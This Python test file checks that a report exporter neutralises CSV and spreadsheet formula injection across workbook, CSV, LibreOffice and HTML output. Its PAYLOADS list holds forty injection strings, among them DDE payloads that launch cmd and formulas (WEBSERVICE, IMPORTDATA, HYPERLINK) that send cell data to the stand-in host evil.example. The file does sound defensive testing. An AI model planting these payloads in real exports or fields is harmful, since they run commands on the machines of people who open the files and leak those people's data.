"""Forty texts that a spreadsheet program could take for formulas, in every field that people type: they stay texts."""

import csv
import shutil
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import UTC, date, datetime
from fractions import Fraction
from io import BytesIO, StringIO
from pathlib import Path
from uuid import UUID

import openpyxl
import pytest
from tests.reports.builders import flagship_review, report
from tests.workflows.test_item_files_libreoffice import CSV_IN, convert

from shipworthy.domain.assessment import (
    Answer,
    AnswerState,
    AssessmentState,
    Decision,
    DecisionCondition,
    Dissent,
    Evidence,
    EvidenceKind,
    NotApplicableType,
    Outcome,
    Signatory,
)
from shipworthy.domain.remediation import RemediationItem, Waiver, WaiverState
from shipworthy.domain.report_kind import Audience, Format
from shipworthy.domain.review import Review, assemble
from shipworthy.exchange.assessment_document import assessment_document
from shipworthy.exchange.assessment_tables import assessment_tables
from shipworthy.exchange.formula_guard import is_formula, unguarded
from shipworthy.exchange.report_document import document_bytes
from shipworthy.exchange.report_table import Table, table_as_csv, tables_as_workbook
from shipworthy.exchange.sheets import fitting
from shipworthy.reports.export import checked
from shipworthy.reports.job import Job
from shipworthy.reports.page_facts import page_facts
from shipworthy.reports.report_worker import ReportWorker
from shipworthy.wording.report_columns import ReportColumns

# OWASP, "CSV Injection", and what was written about it since.
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "'=1+1",
    '"=1+1"',
    '"=1+1',
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "%0A=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "|calc",
    '=DDE("cmd";"/C calc";"x")',
    'DDE ("cmd";"/C calc")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMPORTDATA(CONCAT("http://evil.example/",A1))',
    '=IMAGE("http://evil.example/x.png")',
    "={1,2;3,4}",
    "=-+@1",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    'say ";=1+1"',
)
OFFICE = shutil.which("soffice")


def hostile(payloads: tuple[str, ...]) -> Review:
    """Return a decided review with the payloads in every field, each in turn."""
    review = flagship_review(answered=1.0)
    nth = iter(payloads * 20)
    answers = {question: _answer(question, place, nth) for place, question in enumerate(review.questionnaire.asked)}
    service = replace(
        review.service,
        name=next(nth),
        team=next(nth),
        owner=next(nth),
        system=next(nth),
        domain=next(nth),
        description=next(nth),
        tags=(next(nth),),
    )
    decision = Decision(
        Outcome.CONDITIONAL_GO,
        next(nth),
        (DecisionCondition(next(nth), next(nth), date(2026, 12, 1)),),
        (Signatory(next(nth), next(nth)),),
        (Dissent(next(nth), next(nth)),),
    )
    assessment = replace(
        review.assessment,
        title=next(nth),
        assessors=(next(nth),),
        state=AssessmentState.DECIDED,
        decision=decision,
    )
    return assemble(
        service,
        assessment,
        review.questionnaire,
        review.policy,
        answers,
        review.today,
        [_waiver(place, text, review) for place, text in enumerate(payloads, start=1)],
        [_item(place, text, review) for place, text in enumerate(payloads, start=1)],
        review.today,
    )


def _answer(question: str, place: int, nth: Iterator[str]) -> Answer:
    states = (AnswerState.UNKNOWN, AnswerState.COMPENSATED, AnswerState.NOT_APPLICABLE)
    return Answer(
        question,
        state=states[place % 3],
        note=next(nth),
        reason=next(nth),
        not_applicable_type=NotApplicableType.OTHER,
        evidence=(Evidence(EvidenceKind.TEXT, next(nth), next(nth)), Evidence(EvidenceKind.TEXT, next(nth))),
        dissent=(Dissent(next(nth), next(nth)),),
        answered_by=next(nth),
        answered_at=datetime(2026, 11, 22, tzinfo=UTC),
    )


def _item(place: int, text: str, review: Review) -> RemediationItem:
    return RemediationItem(
        UUID(int=place),
        review.service.id,
        title=text,
        questions=frozenset(),
        owner=text,
        description=text,
        ticket=text,
        state_reason=text,
        effort_days=Fraction(1, 2),
    )


def _waiver(place: int, text: str, review: Review) -> Waiver:
    return Waiver(
        UUID(int=place),
        review.service.id,
        next(iter(review.questionnaire.asked)),
        requester=text,
        approver=text,
        reason=text,
        expires=date(2027, 1, 1),
        state=WaiverState.APPROVED,
    )


@pytest.fixture(scope="module")
def tables() -> tuple[Table, ...]:
    review, words = hostile(PAYLOADS), ReportColumns()
    document = assessment_document(review, words, datetime(2026, 11, 22, tzinfo=UTC), Audience.DESIGN_REVIEW, "0" * 64)
    document_bytes(document)
    return assessment_tables(document, words)


def test_there_are_forty_and_each_stands_in_many_fields(tables: Sequence[Table]) -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) == 40
    cells = [value for table in tables for row in table.rows for value in row if isinstance(value, str)]
    for payload in PAYLOADS:
        assert sum(payload in each for each in cells) >= 8, payload


def test_no_cell_of_the_workbook_is_a_formula(tables: Sequence[Table]) -> None:
    data = tables_as_workbook(tables, PAYLOADS[0], datetime(2026, 11, 22, tzinfo=UTC))
    book = openpyxl.load_workbook(BytesIO(data))
    for table in tables:
        for row, values in zip(list(book[table.name].iter_rows())[1:], table.rows, strict=True):
            for cell, value in zip(row, values, strict=True):
                assert cell.data_type != "f"
                assert cell.hyperlink is None
                if isinstance(value, str) and value.strip():
                    assert (cell.data_type, cell.value) == ("s", fitting(value))


def test_no_cell_of_a_csv_file_is_a_formula_however_it_is_split(tables: Sequence[Table]) -> None:
    for table in tables:
        text = table_as_csv(table).decode("utf-8-sig")
        found = list(csv.reader(StringIO(text, newline=""), strict=True))[1:]
        for row, values in zip(found, table.rows, strict=True):
            for cell, value in zip(row, values, strict=True):
                if isinstance(value, str):
                    assert unguarded(cell) == fitting(value)
        for separator in ",;\t|":
            for row in csv.reader(StringIO(text, newline=""), delimiter=separator):
                assert not [cell for cell in row if is_formula(cell)]


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice (soffice) is not on this machine")
def test_libreoffice_makes_neither_a_formula_nor_a_number_of_a_text(tables: Sequence[Table], tmp_path: Path) -> None:
    written = tmp_path / "report.xlsx"
    written.write_bytes(tables_as_workbook(tables, "Report", datetime(2026, 11, 22, tzinfo=UTC)))
    saved = openpyxl.load_workbook(convert(written, "xlsx", tmp_path / "out"))
    for table in tables:
        _check(table, list(saved[table.name].iter_rows())[1:], of_csv=False)
    together = Table("all", tables[3].columns, tables[3].rows)
    written = tmp_path / "report.csv"
    written.write_bytes(table_as_csv(together))
    opened = openpyxl.load_workbook(convert(written, "xlsx", tmp_path / "csv", f"--infilter={CSV_IN}"))
    _check(together, list(opened.worksheets[0].iter_rows())[1:], of_csv=True)


def _check(table: Table, rows: Sequence[Sequence[object]], *, of_csv: bool) -> None:
    for row, values in zip(rows, table.rows, strict=True):
        for cell, value in zip(row, values, strict=False):
            assert getattr(cell, "data_type", "") != "f"
            if isinstance(value, str) and any(payload.strip() in value for payload in PAYLOADS):
                assert getattr(cell, "data_type", "") == "s", (value, getattr(cell, "value", None))
                shown = str(getattr(cell, "value", "")).replace("_x000D_", "").replace("\r\n", "\n")
                assert (unguarded(shown) if of_csv else shown) == fitting(value)


def test_the_page_shows_them_as_they_were_typed() -> None:
    with ReportWorker() as worker:
        rendered = checked(worker, Job(report(hostile(PAYLOADS)), kind=Format.HTML))
    words = page_facts(rendered.content.decode()).words
    for payload in PAYLOADS:
        assert "".join(payload.split()) in words, payload
